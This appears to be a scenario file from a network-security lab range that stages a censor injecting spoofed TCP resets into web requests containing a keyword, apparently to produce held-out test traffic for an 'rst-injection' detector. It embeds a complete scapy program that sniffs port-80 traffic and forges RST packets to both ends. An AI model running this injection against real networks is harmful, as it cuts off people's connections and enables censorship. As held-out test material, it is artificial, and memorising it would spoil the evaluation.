"""Something on the way ends what it does not like: RSTs to both ends, as whole countries do it."""

from lab.range import Range
from lab.scenario import Scenario

# Whoever asks for this word gets three resets, with the numbers that come next and some later ones,
# and so does the server (Clayton et al., Ignoring the Great Firewall of China, 2006).
PROGRAM = """
import random, sys
wire = conf.L2socket(iface='eth0')
def look(packet):
    tcp = packet[TCP]
    if b'forbidden' not in bytes(tcp.payload):
        return
    size = len(tcp.payload)
    client, server = packet[IP].src, packet[IP].dst
    for step in (0, 1460, 4380):
        ip = IP(src=server, dst=client, ttl=47, id=random.randrange(65536))
        wire.send(Ether(dst=packet.src) / ip / TCP(
            sport=tcp.dport, dport=tcp.sport, flags='RA', seq=tcp.ack + step, ack=tcp.seq + size, window=0))
    for step in (0, 1460, 4380):
        ip = IP(src=client, dst=server, ttl=49, id=random.randrange(65536))
        wire.send(Ether(dst=packet.dst) / ip / TCP(
            sport=tcp.sport, dport=tcp.dport, flags='RA', seq=tcp.seq + size + step, ack=tcp.ack, window=0))
sniff(filter='tcp and dst port 80 and tcp[tcpflags] & tcp-rst == 0', prn=look, timeout=float(sys.argv[1]))
"""


def run(net: Range) -> None:
    censor, pc3, pc4 = net.inside("attacker"), net.inside("pc3"), net.inside("pc4")
    # The server is far away, so that the resets come before its answers.
    www = net.web(net.outside("www", wire="--delay 30"))
    # A hub in a switch's place: the censor sees what others say, as on a mirror port.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    net.loop(pc3, f"curl -s -m 4 -o /dev/null http://{www.ip}/logo.png", 1.0)
    net.loop(pc4, f"curl -s -m 4 -o /dev/null 'http://{www.ip}/?q=forbidden'", 1.9)
    net.quiet(6)
    with net.attack(
        "rst-injection",
        by=censor,
        victims=[pc4, www],
        attacker_known=False,
        others={"sender": [censor.mac], "claimed": [www, pc4]},
        frames="tcp and port 80 and tcp[tcpflags] & tcp-rst != 0",
        responses=f"tcp and host {pc4.ip} and host {www.ip}",
    ):
        net.scapy(censor, PROGRAM, "13")
    net.quiet(4)


SCENARIO = Scenario(
    name="rst-injection-held-censor",
    about="A station on the way resets both ends of web requests that hold a word, three times each.",
    detectors=("rst-injection",),
    held_out=True,
    run=run,
    snap_octets=110,
)
